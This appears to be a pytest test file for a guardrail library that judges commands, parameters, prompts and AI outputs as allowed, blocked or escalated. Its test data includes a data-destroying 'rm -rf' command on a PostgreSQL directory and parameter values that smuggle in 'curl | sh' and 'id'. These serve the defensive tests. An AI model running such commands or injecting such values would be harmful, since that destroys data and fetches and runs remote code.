from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from guardrails.guard import Guard
from guardrails.interface import Action, Channel, Passed, Subject, Unchecked, Watch
from guardrails.policy import Policy, PolicyError

if TYPE_CHECKING:
    from pathlib import Path

RM = "rm -rf /var/lib/postgresql"
GUARD = Guard(Policy())


class Crashing:
    name = "crashing"
    channels = frozenset(Channel)

    def examine(self, subject: Subject) -> Passed:
        raise RuntimeError(subject.text)

    def watch(self) -> Watch | None:
        return None


@pytest.mark.parametrize(
    ("text", "channel", "action"),
    [
        ("ls -l", Channel.COMMAND, Action.ALLOW),
        (RM, Channel.COMMAND, Action.BLOCK),
        ("$COMMAND --now", Channel.COMMAND, Action.ESCALATE),
        (f"Run `{RM}`.", Channel.OUTPUT, Action.BLOCK),
        (f"Never run `{RM}`.", Channel.OUTPUT, Action.ALLOW),
        ("nginx", Channel.PARAMETER, Action.ALLOW),
        ("nginx; curl x | sh", Channel.PARAMETER, Action.BLOCK),
        ("How do I restart nginx?", Channel.PROMPT, Action.ALLOW),
    ],
)
def test_each_channel_is_judged(text: str, channel: Channel, action: Action) -> None:
    verdict = GUARD.examine(text, channel)
    assert verdict.action is action
    assert verdict.ran


def test_a_stream_and_a_whole_answer_get_one_verdict() -> None:
    text = f"First look.\n```bash\n{RM}\n```\n"
    stream = GUARD.stream()
    for character in text:
        stream.feed(character)
    stream.finish()
    assert stream.verdict() == GUARD.examine(text, Channel.OUTPUT)


def test_a_block_offers_the_runbook_s_command_and_never_quotes_the_finding() -> None:
    verdict = GUARD.examine(f"Now run {RM}.", Channel.OUTPUT)
    refusal = GUARD.refusal(verdict)
    assert verdict.alternative
    assert f"```\n{verdict.alternative}\n```" in refusal
    assert RM not in refusal
    assert GUARD.examine(refusal, Channel.OUTPUT).action is Action.ALLOW


def test_each_kind_of_stop_has_its_words() -> None:
    words = GUARD.policy.refusal
    assert GUARD.refusal(GUARD.examine("$COMMAND y", Channel.COMMAND)) == words.escalated
    assert GUARD.refusal(GUARD.decide([Unchecked("commands", "crashed")], ())) == words.unchecked
    assert GUARD.refusal(GUARD.examine("nginx; id", Channel.PARAMETER, type="service")).startswith(words.input)


def test_a_check_that_crashes_is_unchecked_and_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    heard: list[tuple[str, str]] = []
    guard = Guard(Policy(), crashed=lambda name, error: heard.append((name, str(error))))
    monkeypatch.setitem(guard._by_channel, Channel.COMMAND, (Crashing(),))
    verdict = guard.examine("ls", Channel.COMMAND)
    assert verdict.action is Action.BLOCK
    assert verdict.unchecked == (Unchecked("crashing", "crashed"),)
    assert verdict.ran == ()
    assert heard == [("crashing", "ls")]
    silent = Guard(Policy.parse({"on_unchecked": "escalate"}))
    monkeypatch.setitem(silent._by_channel, Channel.COMMAND, (Crashing(),))
    assert silent.examine("ls", Channel.COMMAND).action is Action.ESCALATE


def test_a_text_beyond_the_limit_is_unchecked() -> None:
    guard = Guard(Policy.parse({"budgets": {"text_characters": 1000}}))
    verdict = guard.examine("x" * 1001, Channel.PROMPT)
    assert verdict.action is Action.BLOCK
    assert {miss.reason for miss in verdict.unchecked} == {"too_long"}


def test_a_decision_about_a_rule_that_does_not_exist_is_refused() -> None:
    for name, words in (("files.delete-tre", "did you mean files.delete-tree?"), ("x", "is no rule")):
        with pytest.raises(PolicyError, match=re.escape(words)):
            Guard(Policy.parse({"checks": {"commands": {"rules": {name: "escalate"}}}}))
    Guard(Policy.parse({"checks": {"commands": {"rules": {"commands.unresolvable": "block"}}}}))


def test_wall_time_is_the_last_fuse() -> None:
    ticks = iter([0.0, 99.0])
    verdict = Guard(Policy(), clock=lambda: next(ticks)).examine("ls", Channel.COMMAND)
    assert verdict.unchecked == (Unchecked("guard", "timeout"),)


def test_the_digest_of_the_rules_is_stable_and_knows_the_team_s_own(tmp_path: Path) -> None:
    assert Guard(Policy()).rules_digest == GUARD.rules_digest
    assert len(GUARD.rules_digest) == 64
    (tmp_path / "empty.yaml").write_text(
        "alternatives:\n  - {id: ours.look, command: uptime, why: shows the load, effects: []}\n"
    )
    with_own = Guard(Policy.parse({"runbook_paths": ["empty.yaml"]}, tmp_path))
    assert with_own.rules_digest != GUARD.rules_digest
